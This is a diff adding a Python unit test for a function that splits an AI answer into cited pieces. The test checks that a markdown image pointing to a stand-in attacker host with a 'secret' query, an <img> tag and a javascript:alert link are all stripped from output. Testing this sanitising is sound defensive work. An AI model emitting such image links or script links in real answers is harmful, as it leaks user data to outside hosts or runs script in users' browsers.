@@ -31,3 +31,16 @@ def test_what_stands_there_in_other_words_is_one_piece() -> None:
     assert pieces(answer("I do not know.")) == [Piece("I do not know.")]
     assert pieces(answer("In other words. [1]", ("Words.", [1]))) == [Piece("In other words. [1]")]
     assert pieces(answer("")) == []
+
+
+def test_nothing_in_it_is_fetched_or_followed_but_what_is_ours() -> None:
+    said = "See ![x](https://evil.example/?q=secret) and <img src=x>, at https://evil.example/x."
+    (one, rest) = pieces(answer(f"{said} [1]\nAn address: [click](javascript:alert(1)).", (said, [1])))
+    for text in (one.text, rest.text):
+        assert "](" not in text
+        assert "https://evil.example" not in text
+        assert "<img" not in text
+        assert "javascript:alert" not in text
+    assert one.text.endswith(" [1]")
+    ((start, end, number),) = one.marks
+    assert (one.text[start:end], number) == ("[1]", 1), "its place is that in the text as it goes out"
